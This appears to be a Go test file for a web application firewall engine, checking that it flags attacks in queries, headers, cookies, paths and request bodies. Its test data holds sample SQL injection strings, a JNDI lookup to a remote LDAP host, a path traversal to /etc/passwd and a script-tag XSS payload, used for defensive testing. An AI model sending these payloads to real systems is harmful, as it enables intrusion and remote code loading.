// Copyright The Durward Authors.
// SPDX-License-Identifier: Apache-2.0

package waf

import (
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"durward"
	"durward/waf/gate"
)

var noon = time.Date(2026, 11, 22, 12, 0, 0, 0, time.UTC)

// compiled makes an engine for operations of one configuration each, named "a",
// "b" and so on, and the settings of each.
func compiled(t *testing.T, global *Global, configs ...Config) (*Engine, []*Demand) {
	t.Helper()
	b := NewBuilder(global)
	var demands []*Demand
	for i, cfg := range configs {
		if err := cfg.Check(); err != nil {
			t.Fatal(err)
		}
		d, err := b.Operation(string(rune('a'+i)), cfg, "PUT", []string{"application/merge-patch+json"})
		if err != nil {
			t.Fatal(err)
		}
		demands = append(demands, d)
	}
	rules, err := b.Rules(noon, demands...)
	if err != nil {
		t.Fatal(err)
	}
	e, err := NewEngine(rules)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := e.Close(); err != nil {
			t.Error(err)
		}
	})
	return e, demands
}

func (d *Demand) settingsAt(now time.Time) *Settings {
	s := d.cfg.settings()
	s.Profile = d.profileAt(now)
	return &s
}

const injection = "1%27%20OR%201=1--"

// get is a request that rules find nothing in, with a query.
func get(query string) *gate.Request {
	r := &gate.Request{
		Method: "GET", URI: "/items", Protocol: "HTTP/1.1", Host: "api.example.com", ServerName: "api.example.com", ClientAddr: "192.0.2.1",
		Header: durward.Header{{Name: "User-Agent", Value: "okhttp/4.12.0"}, {Name: "Accept", Value: "*/*"}},
	}
	if query != "" {
		r.URI += "?" + query
	}
	return r
}

func put(mediaType, body string) *gate.Request {
	r := get("")
	r.Method, r.Body, r.Inspect = "PUT", []byte(body), true
	r.Header.Add("Content-Type", mediaType)
	r.Header.Add("Content-Length", fmt.Sprint(len(body)))
	return r
}

func inspect(t *testing.T, e *Engine, r *gate.Request, s *Settings) Verdict {
	t.Helper()
	v, err := e.Inspect(r, s)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

func TestAttacksAreFoundWhereverTheyAre(t *testing.T) {
	e, d := compiled(t, nil, Config{})
	header := get("")
	header.Header.Add("X-Name", "${jndi:ldap://198.51.100.9/a}")
	cookie := get("")
	cookie.Header.Add("Cookie", "theme=dark; name=1'%20OR%201=1--")
	path := get("")
	path.URI = "/items/..%2f..%2f..%2fetc%2fpasswd"
	for name, c := range map[string]struct {
		r    *gate.Request
		want durward.Finding
	}{
		"query":            {get("limit=10&q=" + injection), durward.Finding{Rule: 942100, Class: "sqli", In: "query", Name: "q"}},
		"header":           {header, durward.Finding{Rule: 944150, Class: "rce", In: "header", Name: "X-Name"}},
		"cookie":           {cookie, durward.Finding{Rule: 942100, Class: "sqli", In: "cookie", Name: "name"}},
		"path":             {path, durward.Finding{Rule: 930100, Class: "lfi", In: "path"}},
		"name":             {get("%3Cscript%3Ealert(1)%3C/script%3E=1"), durward.Finding{Rule: 941110, Class: "xss", In: "name"}},
		"JSON":             {put("application/json", `{"a":1,"b":[{"c":"x"},{"c":"1' OR 1=1--"}]}`), durward.Finding{Rule: 942100, Class: "sqli", In: "body", Name: "/b/1/c"}},
		"a kind of JSON":   {put("application/merge-patch+json", `{"b":"1' OR 1=1--"}`), durward.Finding{Rule: 942100, Class: "sqli", In: "body", Name: "/b"}},
		"form":             {put("application/x-www-form-urlencoded", "a=b&c="+injection), durward.Finding{Rule: 942100, Class: "sqli", In: "body", Name: "c"}},
		"multipart":        {put("multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"c\"\r\n\r\n1' OR 1=1--\r\n--XX--\r\n"), durward.Finding{Rule: 942100, Class: "sqli", In: "body", Name: "c"}},
		"XML":              {put("application/xml", "<a><b>1' OR 1=1--</b></a>"), durward.Finding{Rule: 942100, Class: "sqli", In: "body"}},
		"unreadable JSON":  {put("application/json", `{"a":`), durward.Finding{Rule: 200002, In: "body"}},
		"a type not taken": {put("application/x-thing", "x"), durward.Finding{Rule: 920420, Class: "protocol", In: "header", Name: "Content-Type"}},
	} {
		v := inspect(t, e, c.r, d[0].settingsAt(noon))
		if !v.Interrupted || !slices.ContainsFunc(v.Findings, func(f durward.Finding) bool { return f == c.want }) {
			t.Errorf("%s: %+v lacks %+v", name, v, c.want)
		}
	}
	if v := inspect(t, e, get("q=chair&limit=10"), d[0].settingsAt(noon)); v.Interrupted || v.Score != 0 || len(v.Findings) != 0 {
		t.Errorf("a harmless request: %+v", v)
	}
}

func TestParanoiaAndThresholdsHoldForOneOperationOnly(t *testing.T) {
	e, d := compiled(t, nil, Config{}, Config{Paranoia: 2}, Config{DetectionParanoia: 2}, Config{InboundThreshold: 20})
	// Backticks are found at paranoia level 2 only.
	awkward := get("q=" + "x%60%20and%20y%60%20like%20z%60")
	for i, want := range []bool{false, true, false, false} {
		v := inspect(t, e, awkward, d[i].settingsAt(noon))
		if v.Interrupted != want {
			t.Errorf("operation %d: %+v", i, v)
		}
		if i == 2 && (len(v.Rules) == 0 || v.Score != 0) {
			t.Errorf("rules of the detection level do not run, or count: %+v", v)
		}
	}
	if v := inspect(t, e, get("q="+injection), d[3].settingsAt(noon)); v.Interrupted || v.Score != 5 || len(v.Findings) != 1 {
		t.Errorf("below the threshold: %+v", v)
	}
}

func TestInReportModeNothingIsInterruptedAndAllIsFound(t *testing.T) {
	e, d := compiled(t, nil, Config{Mode: durward.Report})
	v := inspect(t, e, get("q="+injection), d[0].settingsAt(noon))
	if !v.Interrupted || v.Rule != 949110 || v.Score != 5 {
		t.Errorf("%+v", v)
	}
}

func TestRulesOfOnesOwnRunForTheirAPIOnly(t *testing.T) {
	dir := t.TempDir()
	write := func(name, text string) string {
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		return path
	}
	all := write("all.conf", "# for everybody\nSecRule ARGS:all \"@streq bad\" \\\n  \"id:100,phase:2,deny,log,msg:'all'\"\n")
	one := write("one.conf", `SecRule ARGS:one "@pmFromFile words.data" "id:101,phase:2,deny,status:404,log"`)
	write("words.data", "worse\nworst\n")
	after := write("after.conf", "SecRuleUpdateTargetById 942100 \"!ARGS:free\"\n")
	e, d := compiled(t, &Global{Rules: []string{all}, RulesAfter: []string{after}}, Config{}, Config{Rules: []string{one}})
	for _, c := range []struct {
		query string
		rule  [2]int // that refuses, for either operation
	}{
		{"all=bad", [2]int{100, 100}},
		{"one=worse", [2]int{0, 101}},
		{"free=" + injection, [2]int{0, 0}},
		{"other=" + injection, [2]int{949110, 949110}},
	} {
		for i := range d {
			if v := inspect(t, e, get(c.query), d[i].settingsAt(noon)); v.Rule != c.rule[i] {
				t.Errorf("%s, operation %d: %+v", c.query, i, v)
			}
		}
	}
}

func TestSetupVariablesAndTheLimitOfArgumentsAreTaken(t *testing.T) {
	e, d := compiled(t, &Global{Setup: map[string]string{"max_num_args": "3"}, MaxArguments: 100}, Config{})
	s := d[0].settingsAt(noon)
	if v := inspect(t, e, get("a=1&b=2&c=3&d=4"), s); !slices.Contains(v.Rules, 920380) {
		t.Errorf("max_num_args: %+v", v)
	}
	e, d = compiled(t, &Global{MaxArguments: 100}, Config{})
	if v := inspect(t, e, put("application/json", `{"a":[`+strings.Repeat("1,", 150)+`1]}`), d[0].settingsAt(noon)); !v.Interrupted {
		t.Errorf("values beyond the limit are not inspected, and pass: %+v", v)
	}
}

func TestOneEngineServesManyAtOnce(t *testing.T) {
	e, d := compiled(t, nil, Config{}, Config{Exclusions: []Exclusion{{Rules: []string{"942100"}}}})
	var wg sync.WaitGroup
	for i := range 8 {
		wg.Go(func() {
			for range 20 {
				v, err := e.Inspect(get("q="+injection), d[i%2].settingsAt(noon))
				if err != nil || v.Interrupted != (i%2 == 0) {
					t.Errorf("operation %d: %+v %v", i%2, v, err)
					return
				}
			}
		})
	}
	wg.Wait()
}

func TestAnEngineIsMadeInTimeAndMemory(t *testing.T) {
	b := NewBuilder(nil)
	rules, err := b.Rules(noon)
	if err != nil {
		t.Fatal(err)
	}
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	start := time.Now()
	e, err := NewEngine(rules)
	took := time.Since(start)
	if err != nil {
		t.Fatal(err)
	}
	runtime.GC()
	runtime.ReadMemStats(&after)
	grown := (int64(after.HeapAlloc) - int64(before.HeapAlloc)) >> 20
	t.Logf("%d rules in %v, %d MiB", e.Count(), took, grown)
	if grown > 60 {
		t.Errorf("an engine takes %d MiB", grown)
	}
	if err := e.Close(); err != nil {
		t.Error(err)
	}
}
